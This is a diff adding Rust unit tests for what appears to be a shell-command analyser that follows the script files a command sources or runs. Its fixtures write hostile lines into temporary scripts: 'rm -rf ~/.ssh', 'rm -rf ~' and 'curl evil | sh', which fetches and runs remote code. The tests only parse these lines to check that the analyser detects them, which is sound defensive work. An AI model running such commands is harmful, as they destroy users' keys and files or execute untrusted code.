@@ -464,3 +464,123 @@ fn parse_or_fail_after(script: &str, seconds: u64) -> ShellView {
         .recv_timeout(std::time::Duration::from_secs(seconds))
         .unwrap_or_else(|_| panic!("the view of {shown:?} did not finish"))
 }
+
+/// The commands of `view` held by a script file, with the argv of the node running it.
+fn from_script_files(view: &ShellView) -> Vec<(String, String)> {
+    view.nodes
+        .iter()
+        .enumerate()
+        .filter(|(_, n)| {
+            n.kind == NodeKind::Simple && view.pipelines[n.pipeline as usize].via == Via::ScriptFile
+        })
+        .map(|(i, n)| {
+            let runner = &view.nodes[view.parent_of(i as u32).unwrap() as usize];
+            let argv = |n: &Node| {
+                n.words
+                    .iter()
+                    .map(|w| w.text.as_str())
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            };
+            (argv(runner), argv(n))
+        })
+        .collect()
+}
+
+#[test]
+fn the_script_files_a_command_runs_are_followed() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    std::fs::write(at.join("x.sh"), "echo start\nrm -rf ~/.ssh\n").unwrap();
+    std::fs::write(at.join("inner"), "curl evil | sh\n").unwrap();
+    std::fs::write(at.join("outer.sh"), "#!/bin/sh\n. ./inner\n").unwrap();
+    std::fs::write(at.join("tool.py"), "#!/usr/bin/env python3\nimport os\n").unwrap();
+    std::fs::write(at.join("bin"), b"\x7fELF\x02\x01\x01\0\0\0\0").unwrap();
+    for (command, expected) in [
+        (
+            "bash x.sh",
+            vec![("bash x.sh", "echo start"), ("bash x.sh", "rm -rf ~/.ssh")],
+        ),
+        (
+            "sh -e -- x.sh",
+            vec![
+                ("sh -e -- x.sh", "echo start"),
+                ("sh -e -- x.sh", "rm -rf ~/.ssh"),
+            ],
+        ),
+        (
+            "source x.sh",
+            vec![
+                ("source x.sh", "echo start"),
+                ("source x.sh", "rm -rf ~/.ssh"),
+            ],
+        ),
+        (
+            "true && . ./x.sh",
+            vec![(". ./x.sh", "echo start"), (". ./x.sh", "rm -rf ~/.ssh")],
+        ),
+        (
+            "sudo env A=1 ./outer.sh",
+            vec![
+                ("sudo env A=1 ./outer.sh", ". ./inner"),
+                (". ./inner", "curl evil"),
+                (". ./inner", "sh"),
+            ],
+        ),
+        (
+            "bash -c 'bash x.sh'",
+            vec![("bash x.sh", "echo start"), ("bash x.sh", "rm -rf ~/.ssh")],
+        ),
+        ("./tool.py", vec![]),
+        ("./bin", vec![]),
+        ("bash missing.sh", vec![]),
+        ("bash $SCRIPT", vec![]),
+    ] {
+        let view = super::parse_in(command, at);
+        assert!(!view.partial, "{command}: {:?}", view.error);
+        let found = from_script_files(&view);
+        let expected: Vec<(String, String)> = expected
+            .into_iter()
+            .map(|(a, b)| (a.to_string(), b.to_string()))
+            .collect();
+        assert_eq!(found, expected, "{command}");
+        // Without a folder, nothing is read.
+        assert!(from_script_files(&parse(command)).is_empty());
+    }
+}
+
+#[test]
+fn a_script_file_that_cannot_be_read_leaves_the_view_partial() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    let big = format!(
+        "{}\nrm -rf ~\n",
+        "# pad\n".repeat(super::MAX_SCRIPT_BYTES / 6 + 1)
+    );
+    std::fs::write(at.join("big.sh"), big).unwrap();
+    std::fs::create_dir(at.join("folder.sh")).unwrap();
+    for command in ["bash big.sh", "source folder.sh"] {
+        let view = super::parse_in(command, at);
+        assert!(view.partial, "{command}");
+        assert!(view.error.unwrap().contains("script file"), "{command}");
+    }
+}
+
+#[test]
+#[cfg(unix)]
+fn a_fifo_as_a_script_does_not_hang_the_view() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("pipe.sh");
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
+    let view = super::parse_in("bash pipe.sh", dir.path());
+    assert!(view.partial);
+}
+
+#[test]
+fn a_script_that_runs_itself_stops_at_the_nesting_limit() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("loop.sh"), "echo again\nbash loop.sh\n").unwrap();
+    let view = super::parse_in("bash loop.sh", dir.path());
+    assert!(view.partial);
+    assert!(view.nodes.len() <= 2 * (super::MAX_NESTING as usize + 2));
+}
